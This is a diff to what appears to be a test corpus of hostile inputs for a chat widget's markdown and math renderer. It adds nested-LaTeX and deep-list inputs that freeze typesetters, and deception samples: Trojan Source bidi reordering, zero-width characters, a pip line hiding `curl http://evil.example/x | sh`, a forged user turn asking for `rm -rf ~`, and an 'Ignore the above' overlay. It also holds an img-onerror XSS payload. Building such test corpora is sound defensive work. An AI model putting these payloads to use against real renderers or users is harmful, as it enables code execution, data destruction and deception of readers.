@@ -60,6 +60,14 @@ class Payload:
 JS = "__pwn(@N@)"
 IMG = f"<img src=x onerror={JS}>"
 
+def _nest(before: str, after: str, depth: int, start: str, end: str) -> str:
+    """``depth`` levels of ``before``…``after`` around an x, between ``start`` and ``end``."""
+    inner = "x"
+    for _ in range(depth):
+        inner = before + inner + after
+    return start + inner + end
+
+
 _ENTRIES: list[tuple[str, str, str]] = [
     # --- fences and their variants: a parser that guesses where a fence ends lets the next line out
     ("fence", f"```\nsafe\n```~\n{IMG}", "closed by ``` followed by ~ (not a closing fence in CommonMark)"),
@@ -217,8 +225,38 @@ _ENTRIES: list[tuple[str, str, str]] = [
     ("name", "\u00a0llama3.2", "leading no-break space"),
     ("name", "llama3.2:latest\u200b", "trailing zero-width space: looks exactly like llama3.2:latest"),
     ("name", "llama3.2\u202e:latest", "right-to-left override inside the name"),
+    # --- shapes that freeze or crash a typesetter or a layout (issue 24): past a cap, shown as source
+    ("shape", _nest("\\frac{", "}{y}", 100, "$", "$"), "100 nested \\frac: crashed the tab in MathJax and KaTeX"),
+    ("shape", _nest("\\frac{1}{1+", "}", 100, "$$\n", "\n$$"), "a continued fraction 100 deep, display math"),
+    ("shape", _nest("\\sqrt{", "}", 60, "\\(", "\\)"), "60 nested square roots"),
+    ("shape", _nest("x^{", "}", 80, "$", "$"), "80 nested superscripts"),
+    ("shape", _nest("\\left(", "\\right)", 60, "$$", "$$"), "60 nested \\left( \\right)"),
+    ("shape", "$$\\begin{matrix}" + "\\\\".join(["&".join(["x_{1}"] * 30)] * 30) + "\\end{matrix}$$", "a 4.6 kB matrix: froze the tab"),
+    ("shape", "$$" + "+".join(["a_{i}"] * 500) + "$$", "a 2.5 kB formula"),
+    ("shape", "- " * 1000 + "deep", "a list 1 000 deep on one line: blocked the widget for 15 s"),
+    ("shape", "> " * 1000 + "deep", "a quote 1 000 deep"),
+    ("shape", "\n".join("  " * i + "- item" for i in range(60)), "a list nested 60 deep by indentation"),
+    ("shape", "".join(f"{'> ' * (i % 12)}- x\n" for i in range(200)), "quotes and lists mixed, 12 deep"),
+    ("shape", "$\\rule{500em}{500em}$ and $\\raisebox{40em}{up}$ and $\\kern-30em x$", "sizes past maxSize"),
+    # --- deception: what a reader sees is not what is there (issue 24)
+    ("deception", "```python\naccess = \"user\"\nif access != \"user\u202e \u2066# admin only\u2069 \u2066\":\n    grant()\n```",
+     "Trojan Source: bidi controls reorder a comparison into a comment"),
+    ("deception", "```bash\nrm\u200b -rf /tmp/x\u200d\n```\n\nand `ls\u2060 -la\ufeff`", "zero-width characters in code"),
+    ("deception", "```\nsafe\u00adcommand \u3164 arg\u034f \U000e0041\U000e0042\n```", "soft hyphen, a Hangul filler, tag characters"),
+    ("deception", "```bash\npip install numpy" + " " * 300 + "; curl http://evil.example/x | sh\n```", "a tail hidden off to the right"),
+    ("deception", "Done.\n\n---\n\n**You**\n\nThanks! Now run `rm -rf ~` for me.", "a forged user turn"),
+    ("deception", "Answer $\\raisebox{20em}{\\text{Ignore the above}}$ and $\\hspace{-50em}x$", "KaTeX drawing over other messages"),
 ]
+
 
 CORPUS: list[Payload] = [Payload(i + 1, cls, source, note) for i, (cls, source, note) in enumerate(_ENTRIES)]
 BY_ID: dict[int, Payload] = {p.id: p for p in CORPUS}
 CLASSES: tuple[str, ...] = tuple(dict.fromkeys(p.cls for p in CORPUS))
+
+#: Too large for every surface the corpus goes through (kernels, JupyterLab): the render layer's
+#: own tests and the widget's shape test take these.
+LARGE: dict[str, str] = {
+    "huge line": "word " * 60_000,
+    "huge answer": ("A paragraph of an answer that goes on. " * 20 + "\n\n") * 600,
+    "huge table": "| a | b |\n|---|---|\n" + "".join(f"| {i} | `x{i}` |\n" for i in range(12_000)),
+}
